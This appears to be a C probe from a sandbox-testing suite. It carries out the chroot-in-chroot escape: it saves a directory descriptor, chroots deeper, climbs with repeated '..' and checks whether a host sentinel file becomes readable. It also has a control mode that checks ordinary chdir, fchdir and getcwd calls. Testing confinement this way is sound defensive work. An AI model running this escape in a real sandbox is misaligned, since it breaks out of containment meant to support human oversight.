/*
 * Leaves a root directory by changing it again: a directory descriptor from before the second
 * chroot is outside, and from there `..` leads up to the real root.
 */
#include "attack.h"
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static bool sees(const char *sentinel)
{
    return faccessat(AT_FDCWD, sentinel, F_OK, AT_SYMLINK_NOFOLLOW) == 0;
}

static void climb(int saved)
{
    if (fchdir(saved) < 0)
        cannot("fchdir: %s", strerror(errno));
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            cannot("chdir: %s", strerror(errno));
}

/* attack SENTINEL [JAIL]: the sentinel is a file of the host, absolute. */
static void attack(char **args)
{
    const char *sentinel = args[0];
    if (args[1]) { /* bare: what a sandbox made of chroot alone is worth */
        if (chroot(args[1]) < 0 || chdir("/") < 0) {
            failed("chroot-in-chroot", errno, REASONS(EPERM));
            return;
        }
        if (sees(sentinel))
            cannot("the jail shows the sentinel");
    }
    int saved = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    (void)mkdir("/tmp", 0700);
    (void)mkdir("/tmp/deeper", 0700);
    long r = chroot("/tmp/deeper");
    int why = errno;
    climb(saved);
    if (r == 0 && chroot(".") == 0 && sees(sentinel))
        succeeded("chroot-in-chroot", "reads %s", sentinel);
    else if (r == 0)
        succeeded("chroot-in-chroot", "chroot is allowed");
    else
        failed("chroot-in-chroot", why, BY_FILTER);
    if (args[1])
        return;

    struct stat root, here;
    climb(saved);
    if (stat("/", &root) < 0 || stat(".", &here) < 0)
        cannot("stat: %s", strerror(errno));
    if (root.st_dev != here.st_dev || root.st_ino != here.st_ino)
        succeeded("climb", "above the root");
    else
        refused("climb", "ends at the root");
    if (sees(sentinel) || faccessat(AT_FDCWD, sentinel + 1, F_OK, 0) == 0)
        succeeded("sentinel", "%s", sentinel);
    else
        invisible("sentinel");
}

static void control(char **args)
{
    (void)args;
    int saved = open("/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    works("chdir", chdir("/workspace") == 0);
    works("fchdir", fchdir(saved) == 0);
    char here[64] = "";
    works("getcwd", getcwd(here, sizeof(here)) && strcmp(here, "/tmp") == 0);
}

int main(int argc, char **argv)
{
    return attack_main(argc, argv,
            (struct attack_mode[]){ { "attack", attack }, { "control", control }, { 0 } });
}
